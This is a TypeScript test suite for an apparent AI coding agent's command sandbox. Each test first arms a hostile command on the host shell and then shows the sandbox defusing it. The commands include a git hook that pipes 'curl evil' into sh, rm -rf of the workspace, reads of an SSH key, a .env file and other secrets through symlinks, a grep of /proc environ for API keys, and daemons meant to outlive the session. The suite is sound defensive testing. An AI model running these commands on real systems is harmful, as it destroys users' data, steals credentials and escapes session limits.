import * as assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { runInView, type ViewCommandResult } from '../../../../src/core/commands/sandboxedCommand';
import type { Sandbox } from '../../../../src/core/sandbox/sandbox';
import { processesMatching } from '../evolution/helpers';
import { eventually } from '../sandbox/sandboxHelpers';
import { DOT_ENV_SECRET, hostShell, inView, throwawayCopy, treeHash, useView, type ViewFixture } from './viewFixture';

/**
 * Commands an agent might run against the user, each first shown ARMED in a
 * plain host shell (no sandbox, on a throwaway copy where it would wreck
 * something), then shown defused in the real sandbox over a view.
 */
describe('hostile commands in the sandbox over a view: each trap armed on the host, defused in the sandbox', function () {
  this.timeout(120_000);
  let sandbox: Sandbox;
  let f: ViewFixture;
  useView((s) => (sandbox = s), (v) => (f = v));

  const run = (command: string, more: Parameters<typeof inView>[3] = {}): Promise<ViewCommandResult> => runInView(inView(sandbox, f, command, more));

  /** Each wrecks the folder it is given; `git commit` with a name, since the host copy has no user configured. */
  const wrecks: readonly { readonly what: string; readonly command: (ws: string) => string }[] = [
    { what: 'overwrite a tracked file', command: (ws) => `echo hacked > '${ws}/greet.js'` },
    { what: "write the workspace's .git: a hook and the config", command: (ws) => `echo 'curl evil | sh' > '${ws}/.git/hooks/pre-commit'; chmod +x '${ws}/.git/hooks/pre-commit'; printf '[core]\\n\\thooksPath = /tmp\\n' >> '${ws}/.git/config'` },
    { what: 'rewrite history with git', command: (ws) => `cd '${ws}' && git -c user.name=evil -c user.email=evil@example.invalid commit -q --allow-empty -m evil` },
    { what: 'rm -rf the workspace', command: (ws) => `rm -rf '${ws}/'* '${ws}/'.[!.]*; rm -rf '${ws}'` },
  ];
  for (const trap of wrecks) {
    it(`${trap.what}: wrecks a copy from the host shell; the workspace stays byte-identical, .git and ignored files included`, async () => {
      const copy = throwawayCopy(f.workspace);
      const copyBefore = treeHash(copy);
      await hostShell(trap.command(copy), copy);
      assert.notEqual(treeHash(copy), copyBefore, 'the trap is armed: the host shell changed the copy');
      const before = treeHash(f.workspace);
      const gitBefore = treeHash(path.join(f.view, '.git'));
      // The marker shows the sandbox started and ran the line: a sandbox that never starts leaves the workspace alone too.
      const result = await run(`${trap.command(f.workspace)}; echo CANDOR-RAN`);
      assert.equal(result.crashed, false, result.tail);
      assert.match(result.tail, /CANDOR-RAN$/, 'the command ran in the sandbox');
      assert.equal(treeHash(f.workspace), before, `the workspace changed:\n${result.tail}`);
      assert.equal(treeHash(path.join(f.view, '.git')), gitBefore, "the view's .git is read-only too");
    });
  }

  it('writes into the view itself succeed, and only there: the command sees them, the workspace does not', async () => {
    const before = treeHash(f.workspace);
    const result = await run("echo hacked > greet.js && mkdir -p made/here && echo new > made/here/file.txt && cat greet.js made/here/file.txt");
    assert.equal(result.exitCode, 0, result.tail);
    assert.equal(result.tail, 'hacked\nnew');
    assert.equal(fs.readFileSync(path.join(f.view, 'greet.js'), 'utf8'), 'hacked\n');
    assert.equal(fs.readFileSync(path.join(f.view, 'made', 'here', 'file.txt'), 'utf8'), 'new\n');
    assert.equal(treeHash(f.workspace), before);
  });

  it('a write to .git is explained: the model reads that the workspace is read-only to commands', async () => {
    const result = await run('echo x >> .git/config');
    assert.notEqual(result.exitCode, 0);
    assert.match(result.explanation ?? '', /tried to write .*\.git\/config, which commands may only read/);
    const outside = await run('touch /usr/local/candor-was-here');
    assert.match(outside.explanation ?? '', /^it tried to write outside its view of the workspace \(\/usr\/local\/candor-was-here\): commands can write only in the view; the workspace itself is read-only to them$/);
  });

  it("secrets: a key in the real home, the data folder, the workspace's ignored .env, and a link in the view to each: the host shell reads them all; the sandbox none", async () => {
    const sshDir = fs.mkdtempSync(path.join(os.homedir(), '.candor-test-ssh-'));
    try {
      const key = path.join(sshDir, 'id_rsa');
      fs.writeFileSync(key, '-----BEGIN OPENSSH PRIVATE KEY----- candor-test-key\n', { mode: 0o600 });
      const targets: Record<string, string> = { key, data: path.join(f.data, 'secret.txt'), dotenv: path.join(f.workspace, '.env') };
      for (const [name, target] of Object.entries(targets)) fs.symlinkSync(target, path.join(f.view, `link-${name}`));
      const probe = [...Object.entries(targets).map(([name, target]) => [name, target] as const), ...Object.keys(targets).map((name) => [`link-${name}`, `link-${name}`] as const), ['relative-dotenv', '.env'] as const]
        .map(([name, target]) => `if cat '${target}' >/dev/null 2>&1; then echo READ:${name}; else echo UNREADABLE:${name}; fi`)
        .join('; ');
      const armed = await hostShell(probe, f.view);
      assert.equal(armed.output.match(/READ:/g)?.length, 6, `the trap is armed on the host (all but the view's own missing .env):\n${armed.output}`);
      const result = await run(`${probe}; test -e '${f.data}' && echo DATA-FOLDER-SHOWN`);
      assert.ok(!/(^|\n)READ:/.test(result.tail), result.tail);
      assert.ok(!result.tail.includes('DATA-FOLDER-SHOWN'), 'the data folder, the view inside it, is not there at its own path');
      assert.equal(result.tail.match(/UNREADABLE:/g)?.length, 7, result.tail);
      assert.ok(!result.tail.includes('candor-test-key') && !result.tail.includes(DOT_ENV_SECRET) && !result.tail.includes('candor-data-folder-secret'));
    } finally {
      fs.rmSync(sshDir, { recursive: true, force: true });
    }
  });

  it("the API key in an ancestor's /proc/<pid>/environ: found from a host shell; absent in the sandbox, whose PID namespace shows no ancestor", async () => {
    const secret = `sk-candor-test-${process.pid}-${Date.now()}`;
    const grep = `grep -l -a -F '${secret}' /proc/[0-9]*/environ 2>/dev/null | wc -l; echo "own=$OPENAI_API_KEY"; ls -d /proc/[0-9]* | wc -l`;
    // Candor's process started with the key in its environment: a node child stands for it, its environment from exec.
    const script = [
      `const { detectSandbox } = require(${JSON.stringify(path.resolve('src/core/sandbox/sandbox.ts'))});`,
      `const { runInView } = require(${JSON.stringify(path.resolve('src/core/commands/sandboxedCommand.ts'))});`,
      "const { execSync } = require('node:child_process');",
      '(async () => {',
      '  const o = JSON.parse(process.argv[1]);',
      // The host shell itself gets no key: what it finds is an ancestor's.
      '  const host = execSync(o.command, { cwd: o.view, encoding: "utf8", shell: "/bin/sh", env: { PATH: process.env.PATH } });',
      "  const sandbox = await detectSandbox('required');",
      '  const r = await runInView({ ...o, sandbox, signal: new AbortController().signal, onOutput: () => undefined });',
      '  process.stdout.write(JSON.stringify({ host, tail: r.tail }));',
      '})().catch((e) => { console.error(e); process.exit(1); });',
    ].join('\n');
    const command = inView(sandbox, f, grep, { withhold: [secret], environment: ['OPENAI_API_KEY', 'SK_*'] });
    const options = { ...command, sandbox: undefined, signal: undefined, onOutput: undefined };
    const out = await new Promise<string>((resolve, reject) => {
      const child = spawn(process.execPath, ['--require', 'tsx/cjs', '-e', script, JSON.stringify(options)], { env: { ...process.env, OPENAI_API_KEY: secret }, stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
      child.on('close', (code) => (code === 0 ? resolve(stdout) : reject(new Error(`the child failed (${code}): ${stderr}`))));
    });
    const { host, tail } = JSON.parse(out) as { host: string; tail: string };
    const [hostFound, hostOwn] = host.split('\n');
    assert.equal(hostOwn, 'own=', 'the host shell does not hold the key itself');
    assert.ok(Number(hostFound) >= 1, `the trap is armed: the host shell finds the key in an ancestor's environ (${host})`);
    const [found, own, processes] = tail.split('\n');
    assert.equal(found, '0', tail);
    assert.equal(own, 'own=', 'not in its environment, though OPENAI_API_KEY was listed');
    assert.ok(Number(processes) <= 6, `only the sandbox's own processes show: ${processes}`);
  });

  describe('the network, with a server on 127.0.0.1', () => {
    let server: http.Server;
    let url: string;
    before(async () => {
      server = http.createServer((_req, res) => res.end('candor-loopback-answer'));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
    });
    after(() => new Promise<void>((resolve) => server.close(() => resolve())));
    const fetchCommand = (): string => `node -e "fetch('${url}').then((r) => r.text()).then((t) => console.log('GOT', t), (e) => { console.log('FAILED', e.cause?.message ?? e.message); process.exit(1); })"`;

    it('off: the host shell reaches it; the sandbox is refused, and the model is told the network is off', async () => {
      assert.match((await hostShell(fetchCommand(), f.view)).output, /GOT candor-loopback-answer/, 'the trap is armed');
      const result = await run(fetchCommand());
      assert.equal(result.exitCode, 1);
      assert.match(result.tail, /FAILED connect ECONNREFUSED 127\.0\.0\.1:\d+/);
      assert.ok(!result.tail.includes('candor-loopback-answer'));
      assert.match(result.explanation ?? '', /^it tried to reach the network, which is off for commands \(candor\.commands\.network\)/);
    });

    it("on (candor.commands.network): the sandbox shares the host's network, and reaches it", async () => {
      const result = await run(fetchCommand(), { network: true });
      assert.equal(result.exitCode, 0, result.tail);
      assert.match(result.tail, /GOT candor-loopback-answer/);
      assert.equal(result.explanation, undefined);
    });
  });

  it('a daemon left behind (setsid, nohup, a double fork): outlives the host shell; nothing of it survives the sandboxed command', async () => {
    const marker = `candor-daemon-marker-${process.pid}-${Date.now()}`;
    // A loop of short sleeps: killing the marked shell on the host leaves at most one `sleep 1` behind.
    const daemon = "sh -c 'while :; do sleep 1; done'";
    const leave = (tag: string): string => `setsid ${daemon} ${marker}-${tag}-setsid >/dev/null 2>&1 < /dev/null & nohup ${daemon} ${marker}-${tag}-nohup >/dev/null 2>&1 < /dev/null & ( ${daemon} ${marker}-${tag}-fork >/dev/null 2>&1 < /dev/null & ) ; echo left`;
    const host = `${marker}-host`;
    await hostShell(leave('host'), f.view);
    try {
      // Three, and now and then the fork of one about to become its `sleep 1`.
      assert.ok(processesMatching(host).length >= 3, 'the trap is armed: the three daemons outlive the host shell');
    } finally {
      await eventually(() => {
        for (const pid of processesMatching(host)) process.kill(pid, 'SIGKILL');
        return processesMatching(host).length === 0;
      });
    }
    const result = await run(leave('sandbox'));
    assert.equal(result.tail, 'left');
    assert.deepEqual(processesMatching(`${marker}-`), [], 'no process of it remains');
  });

  it('500 MB of output: the tail stays bounded, the test process does not grow; a refused write early in the flood is still explained', async () => {
    let seen = 0;
    const rssBefore = process.memoryUsage().rss;
    const result = await run("touch /usr/candor-flood; head -c 500000000 /dev/zero | tr '\\0' x", { onOutput: (text) => (seen += text.length) });
    const grown = process.memoryUsage().rss - rssBefore;
    assert.equal(result.exitCode, 0);
    assert.ok(seen >= 500_000_000, `all of it streamed: ${seen}`);
    assert.ok(Buffer.byteLength(result.tail) <= 4096, `tail of ${Buffer.byteLength(result.tail)} bytes`);
    assert.match(result.tail, /^\[… earlier output not kept: 500,000,\d{3} bytes in all\]\nx+$/);
    assert.ok(grown < 200 * 1024 * 1024, `the test process grew by ${Math.round(grown / 1024 / 1024)} MiB`);
    assert.match(result.explanation ?? '', /outside its view of the workspace \(\/usr\/candor-flood\)/);
  });

  it('`yes` until the timeout: ends as timedOut with a bounded tail', async () => {
    const result = await run('yes candor-yes', { timeoutMs: 2000 });
    assert.equal(result.timedOut, true);
    assert.ok(Buffer.byteLength(result.tail) <= 4096);
    assert.match(result.tail, /\ncandor-yes\ncandor-yes\n/);
  });
});
